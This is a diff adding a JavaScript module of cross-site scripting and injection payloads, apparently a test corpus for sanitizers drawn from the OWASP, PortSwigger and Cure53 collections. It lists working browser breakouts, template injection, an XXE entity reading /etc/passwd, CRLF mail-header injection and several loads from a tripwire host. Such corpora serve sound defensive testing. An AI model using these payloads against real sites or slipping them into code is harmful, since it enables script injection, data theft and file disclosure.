@@ -1,0 +1,36 @@
+// What people type who want a browser to run something: known ways out of every place in which a text can stand. Each
+// calls hit() or asks the host tripwire.example. After the collections of OWASP, PortSwigger and Cure53's tests.
+export const host = 'tripwire.example';
+export const short = `"'><svg onload=hit()>`;
+export const payloads = {
+  element: '<script>hit()</script>',
+  attribute: '"><img src=x onerror=hit()>',
+  'single quotes': `'><img src=x onerror='hit()'>`,
+  handler: '" autofocus onfocus=hit() x="',
+  'without quotes': 'x onmouseover=hit() style=position:fixed;inset:0 ',
+  'raw text': '</title></textarea></style></noscript></template><svg/onload=hit()>',
+  'end of a script': '</script><script>hit()</script>',
+  'start of a comment': '<!--<script>--><img src=x onerror=hit()>',
+  'script in a script': '"}</script><img src=x onerror=hit()>{"a":"',
+  'in JSON': '\\"});hit();//',
+  'line separators': '\u2028hit()\u2029//',
+  address: 'javascript:hit()//',
+  'split address': 'java\tscript:hit()',
+  'data address': 'data:text/html,<script>hit()</script>',
+  markdown: '[x](javascript:hit()) ![x](x"onerror="hit())',
+  template: `{{{"<img src=x onerror=hit()>"}}} {{constructor.constructor "hit()"}}`,
+  'template of browsers': '${hit()} #{hit()} <%= hit() %> {{hit()}}',
+  'twice escaped': '&lt;img src=x onerror=hit()&gt;',
+  'escaped by numbers': '&#60;img src=x onerror=hit()&#62;',
+  'percent signs': '%3Cimg%20src=x%20onerror=hit()%3E',
+  CDATA: ']]><script xmlns="http://www.w3.org/1999/xhtml">hit()</script>',
+  entity: '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
+  mutation: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=hit()&gt;">',
+  namespace: '<svg><style><img src=x onerror=hit()></style></svg>',
+  frame: '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
+  'another site': `<img src=//${host}/i><link rel=stylesheet href=//${host}/c><base href=//${host}/>`,
+  'led away': `<meta http-equiv=refresh content="0;url=//${host}/">`,
+  dialog: '<img src=x onerror=alert(1)><svg onload=confirm(1)>',
+  'wide signs': '＜script＞hit()＜/script＞',
+  'field of a mail': `x\r\nBcc: y@${host}\r\n\r\n<img src=x onerror=hit()>`,
+};
